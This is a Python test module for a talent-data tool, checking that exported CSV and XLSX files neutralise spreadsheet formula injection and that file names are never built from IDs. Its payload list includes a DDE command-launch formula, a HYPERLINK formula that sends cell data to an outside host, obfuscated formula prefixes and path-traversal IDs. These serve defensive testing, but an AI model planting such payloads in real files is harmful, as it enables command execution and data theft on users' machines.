"""Exports: no payload runs in a spreadsheet program, and every payload comes back as it was."""

from __future__ import annotations

import csv
import json
import zipfile
from collections.abc import Callable
from functools import partial
from io import StringIO
from pathlib import Path

from dxmatch.io import (
    ImportReport,
    read_feed,
    read_quarantine,
    requeue,
    write_quarantine,
    write_talents,
)
from dxmatch.io.formula_safe import is_dangerous
from dxmatch.models import Talent
from tests.badinput.building import as_csv, good
from tests.badinput.case import Case, Klass, Passes, Read, Refused
from tests.badinput.verdict import AS_OF, chosen_mapping

PAYLOADS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "crlf": "x\r\n=1+1",
    "full-width-equals": "＝1+1",
    "full-width-plus": "＋1",
    "full-width-minus": "－1",
    "full-width-at": "＠SUM(1)",
    "spaces": "   =1+1",
    "full-width-space": "\u3000＝1+1",
    "zero-width": "\u200b=1+1",
    "byte-order-mark": "\ufeff=1+1",
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://example.jp/?"&A1,"x")',
    "apostrophe": "'=1+1",
    "two-apostrophes": "''",
    "quote": '"=1+1',
    "separator": 'a","=1+1',
    "escape-of-xml": "_x003D_1+1",
    "nul": "a\x00b",
    "terminal": "\x1b[2J\x1b]0;x\x07",
    "direction": "\u202e=1+1",
    "line-separator": "\u2028=1+1",
    "markup": "</t></is><f>1+1</f>",
    "backslash": "\\x3d1+1",
    "long": "=" + "1" * 190,
}


def _talent(payload: str) -> Talent:
    return Talent(vendor="v", id="1", headline=payload[:200], summary=f"x {payload}")


def _cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]


def _talents(payload: str, name: str, folder: Path) -> None:
    talent, path = _talent(payload), folder / name
    write_talents([talent], path)
    assert read_feed(path).talents == (talent,)
    if name.endswith(".csv"):
        assert not [cell for cell in _cells(path) if is_dangerous(cell)]
    if name.endswith(".xlsx"):
        _assert_strings(path)


def _assert_strings(path: Path) -> None:
    """Every cell with a value is a shared string: no formula, number or link."""
    with zipfile.ZipFile(path) as book:
        for part in book.namelist():
            if part.startswith("xl/worksheets/sheet"):
                xml = book.read(part).decode()
                assert "<f" not in xml.replace("<font", "").replace("<formula", "")
                assert xml.count("<v>") == xml.count('t="s"')
                assert "hyperlink" not in xml


def _quarantine(payload: str, name: str, folder: Path) -> ImportReport:
    """The raw row keeps the payload; without a correction it goes on waiting."""
    feed = folder / "feed.csv"
    feed.write_bytes(as_csv([good(1, 人材ID="", 自己PR=payload), good(2)]))
    report = read_feed(feed, chosen_mapping(None), as_of=AS_OF)
    write_quarantine(report, folder / name, chosen_mapping(None), as_of=AS_OF)
    assert read_quarantine(folder / name) == report.quarantine
    if name.endswith(".xlsx"):
        _assert_strings(folder / name)
    return requeue(folder / name)


def _named(act: Callable[[str, str, Path], ImportReport | None], name: str) -> list[Case]:
    kind = act.__name__.strip("_")
    waits = Passes() if kind == "talents" else Read(accepted=0, quarantined=1)
    return [
        Case(
            f"export-{kind}-{name.replace('.', '-')}-{key}",
            Klass.EXPORT,
            expected=waits,
            act=partial(act, payload, name),
        )
        for key, payload in PAYLOADS.items()
        if kind == "talents" or key not in {"nul"}  # no CSV feed holds a NUL
    ]


def _repeated(folder: Path) -> None:
    write_talents([_talent("a"), _talent("b")], folder / "t.csv")


def _existing(folder: Path) -> None:
    (folder / "t.csv").write_text("mine")
    write_talents([_talent("a")], folder / "t.csv")


def _through_a_link(folder: Path) -> None:
    (folder / "t.csv").symlink_to(folder / "elsewhere")
    write_talents([_talent("a")], folder / "t.csv", force=True)


def _id_as_a_path(folder: Path) -> None:
    """No name of a file is made of data."""
    talents = [Talent(vendor="v", id=text) for text in ("../../x", "CON", "a/b", "..", "~")]
    write_talents(talents, folder / "out")
    names = sorted(path.name for path in (folder / "out").iterdir())
    assert names == [f"talent-00000{n}.json" for n in range(1, 6)]
    assert len(read_feed(folder / "out").talents) == 5
    assert [path.name for path in folder.iterdir()] == ["out"]


def _apostrophe_of_others(folder: Path) -> None:
    """In a vendor's own file an apostrophe is theirs, and stays."""
    feed = folder / "feed.csv"
    feed.write_bytes(as_csv([good(1, 人材ID="X-1", 職種="'PM")]))
    (talent,) = read_feed(feed, chosen_mapping(None), as_of=AS_OF).talents
    assert talent.headline == "'PM"


def _changed_resume(folder: Path) -> ImportReport:
    write_talents([_talent("a"), Talent(vendor="v", id="2")], folder / "out")
    file = folder / "out" / "talent-000002.json"
    resume = json.loads(file.read_text("utf-8"))
    resume["basics"]["label"] = "CIO"
    file.write_text(json.dumps(resume), "utf-8")
    return read_feed(folder / "out")


CASES: tuple[Case, ...] = (
    *_named(_talents, "t.csv"),
    *_named(_talents, "t.xlsx"),
    *_named(_talents, "resumes"),
    *_named(_quarantine, "q.xlsx"),
    *_named(_quarantine, "q.jsonl"),
    Case("export-repeated", Klass.EXPORT, expected=Refused("DUPLICATE_TALENT"), act=_repeated),
    Case("export-existing", Klass.EXPORT, expected=Refused("OUT_EXISTS"), act=_existing),
    Case("export-link", Klass.EXPORT, expected=Refused("OUT_LINK"), act=_through_a_link),
    Case("export-id-as-a-path", Klass.EXPORT, expected=Passes(), act=_id_as_a_path),
    Case("export-their-apostrophe", Klass.EXPORT, expected=Passes(), act=_apostrophe_of_others),
    Case("export-changed-resume", Klass.EXPORT, expected=Read(1, 1), act=_changed_resume),
)
